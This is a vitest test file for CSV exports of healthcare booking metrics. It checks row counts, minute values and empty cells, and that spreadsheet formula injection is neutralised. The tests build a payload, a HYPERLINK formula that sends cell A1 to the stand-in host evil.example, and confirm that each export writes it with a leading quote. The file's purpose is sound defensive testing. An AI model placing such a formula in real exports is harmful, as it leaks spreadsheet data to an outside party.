import { describe, expect, it } from 'vitest';
import { computeAllMetrics } from './compute-all';
import { fixture, FIXTURE_RANGE, V } from './fixture';
import { drillCsv, weeklyCsv } from './metrics-csv';

describe('weeklyCsv', () => {
  const report = computeAllMetrics(fixture, FIXTURE_RANGE);
  const lines = weeklyCsv(report).trim().split('\r\n');

  it('has one row per week, slice and metric', () => {
    const slices = report.weekly.weeks.reduce((sum, w) => sum + 1
      + Object.values(report.weekly.byServiceType).filter((s) => s?.[w.key]).length
      + Object.values(report.weekly.byVendor).filter((s) => s[w.key]).length, 0);
    expect(lines).toHaveLength(1 + slices * 11);
  });

  it('writes durations in minutes and empty cells for no data, never NaN', () => {
    const w10 = lines.find((l) => l.startsWith('2025-W10,') && l.includes(',overall,All,orderToTransportConfirmation.median,'));
    // Week 10 transport bookings booked after 60, 180 and 240 minutes: nearest-rank median 180.
    expect(w10?.split(',')[6]).toBe('180.0');
    expect(lines.join('\n')).not.toContain('NaN');
  });
});

describe('drillCsv', () => {
  it('writes each row with local time, zone, minutes, and neutralises formulas and quotes', () => {
    const csv = drillCsv([
      { id: 'Task/T2a', booking: 'ServiceRequest/t2', patient: '=HYPERLINK("x")', service: 'transport', vendor: 'Care, Lift', requestedAt: Date.parse('2025-03-04T09:15:00Z'), state: 'declined', valueMs: 180 * 60_000 },
      { id: 'ServiceRequest/h7', booking: 'ServiceRequest/h7', patient: 'Pat Seven', service: 'home-health' },
    ], 'America/New_York');
    expect(csv.split('\r\n')).toEqual([
      'patient,service,vendor,requested_local,time_zone,state,value_minutes,booking,counted_id',
      `"'=HYPERLINK(""x"")",Transport,"Care, Lift",2025-03-04 04:15,America/New_York,declined,180.0,ServiceRequest/t2,Task/T2a`,
      'Pat Seven,Home health,,,America/New_York,,,ServiceRequest/h7,ServiceRequest/h7',
      '',
    ]);
  });
});

// What a spreadsheet would run as a formula (OWASP "CSV injection"): a cell starting with
// = + - @, a tab or a carriage return. Every such text cell is written with a leading '.
const PREFIXES = ['=', '+', '-', '@', '\t', '\r'];
const payload = (p: string) => `${p}HYPERLINK("http://evil.example/?"&A1,"x")`;

/** Cells of one CSV record (RFC 4180 quoting). */
function cellsOf(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i += 1) {
    const ch = line[i] as string;
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') { cur += '"'; i += 1; } else if (ch === '"') quoted = false; else cur += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { out.push(cur); cur = ''; } else cur += ch;
  }
  out.push(cur);
  return out;
}

describe('CSV formula injection', () => {
  it('the drill-down CSV writes every = + - @ tab and CR text with a leading quote', () => {
    const csv = drillCsv(PREFIXES.map((p, i) => ({
      id: `Task/t${i}`, booking: `ServiceRequest/s${i}`, patient: payload(p), service: 'transport', vendor: payload(p), state: p === '-' ? '-1' : 'booked',
    })), 'UTC');
    const rows = csv.split('\r\n').slice(1, -1).map(cellsOf);
    expect(rows).toHaveLength(PREFIXES.length);
    rows.forEach((cells, i) => {
      expect(cells[0]).toBe(`'${payload(PREFIXES[i] as string)}`);
      expect(cells[2]).toBe(`'${payload(PREFIXES[i] as string)}`);
    });
    expect(rows[2]?.[5]).toBe("'-1");
  });

  it('the weekly CSV writes a vendor named like a formula as text, and numbers (negative too) as numbers', () => {
    for (const p of PREFIXES) {
      const organizations = (fixture.organizations ?? []).map((o) => ((o as { id: string }).id === V.swift.split('/')[1] ? { ...(o as object), name: payload(p) } : o));
      const lines = weeklyCsv(computeAllMetrics({ ...fixture, organizations }, FIXTURE_RANGE)).split('\r\n').slice(1, -1).map(cellsOf);
      const vendorRows = lines.filter((c) => c[2] === 'vendor' && c[3]?.includes('HYPERLINK'));
      expect(vendorRows.length).toBeGreaterThan(0);
      for (const c of vendorRows) expect(c[3]).toBe(`'${payload(p)}`);
      for (const c of lines) for (const cell of c) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
  });
});
